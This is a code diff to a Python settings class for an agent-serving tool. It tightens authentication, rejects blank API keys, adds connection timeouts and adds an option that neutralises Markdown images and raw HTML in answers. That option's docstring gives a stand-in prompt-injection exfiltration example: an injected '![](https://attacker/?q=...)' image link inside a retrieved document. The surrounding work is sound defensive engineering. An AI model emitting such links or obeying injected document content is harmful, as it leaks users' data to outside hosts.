@@ -87,7 +87,12 @@ class Settings(BaseSettings):
     server_port: int = Field(default=8000, ge=0, le=65535)
     """Port of ``arag serve`` (0 picks a free one)."""
     api_key: SecretStr | None = None
-    """Bearer key that clients of ``arag serve`` must send; unset means no authentication."""
+    """Bearer key that clients of ``arag serve`` must send. Unset: no authentication, which
+    ``arag serve`` allows on a loopback address only (see :attr:`server_no_auth`). A blank
+    value is an error, never "no authentication"."""
+    server_no_auth: bool = False
+    """Serve without a key on a non-loopback address (``arag serve --no-auth``); off, ``arag
+    serve`` refuses to listen on another address without :attr:`api_key`."""
     server_max_runs: int = Field(default=4, ge=1)
     """Agent runs the server executes at once."""
     server_max_queue: int = Field(default=32, ge=0)
@@ -96,6 +101,23 @@ class Settings(BaseSettings):
     """Largest request body in bytes (413 past it)."""
     server_deadline: float = Field(default=180.0, gt=0)
     """Seconds per request, waiting included; past it the run is stopped and the client told (504)."""
+    server_limit_concurrency: int = Field(default=1000, ge=1)
+    """Connections the server holds at once (uvicorn's ``limit_concurrency``: requests past it get
+    503); lowered to the process's open-files limit minus 64, so the server never runs out of
+    files. A connection past it is answered 503 and closed at once."""
+    server_keep_alive: int = Field(default=5, ge=1)
+    """Seconds an idle keep-alive connection stays open between requests (uvicorn's
+    ``timeout_keep_alive``)."""
+    server_header_timeout: float = Field(default=10.0, gt=0)
+    """Seconds a client has to send a request's headers, from connecting or from the end of the
+    previous response; past it the server answers 408 and closes (slow or idle clients)."""
+    server_body_timeout: float = Field(default=30.0, gt=0)
+    """Seconds a client has to send a request body; past it the server answers 408 and closes."""
+    server_safe_markdown: bool = True
+    """Neutralise Markdown images and raw HTML in the answers the server sends, so a document
+    carrying an injected ``![](https://attacker/?q=...)`` or ``<img>`` cannot make a Markdown
+    front end fetch a URL (images are shown as their text, tags are escaped; ``[n]`` citations and other
+    Markdown are kept)."""
 
     # -- long contexts (the recursive agent) ---------------------------------------------
     rlm_max_iterations: int = Field(default=12, ge=1)
@@ -133,10 +155,23 @@ class Settings(BaseSettings):
     rrf_k: int = Field(default=10, ge=1)
     """Reciprocal rank fusion constant (chosen on the SciFact train queries; see evals/README.md)."""
 
-    @field_validator("qdrant_url", "chat_model", "openai_base_url", "api_key", mode="before")
+    @field_validator("qdrant_url", "chat_model", "openai_base_url", mode="before")
     @classmethod
     def _blank_is_unset(cls, value: object) -> object:
         return None if isinstance(value, str) and not value.strip() else value
+
+    @field_validator("api_key", mode="before")
+    @classmethod
+    def _blank_key_is_an_error(cls, value: object) -> object:
+        # A key set to nothing (ARAG_API_KEY= in a .env) must not silently mean "no authentication".
+        text = value.get_secret_value() if isinstance(value, SecretStr) else value
+        if isinstance(text, str) and not text.strip():
+            msg = "ARAG_API_KEY is set but blank: set a key, or unset it to serve without one (loopback only)"
+            raise ValueError(msg)
+        if isinstance(text, str) and text != text.strip():
+            msg = "ARAG_API_KEY has leading or trailing whitespace; clients cannot send it in a header"
+            raise ValueError(msg)
+        return value
 
     @model_validator(mode="after")
     def _check(self) -> Settings:
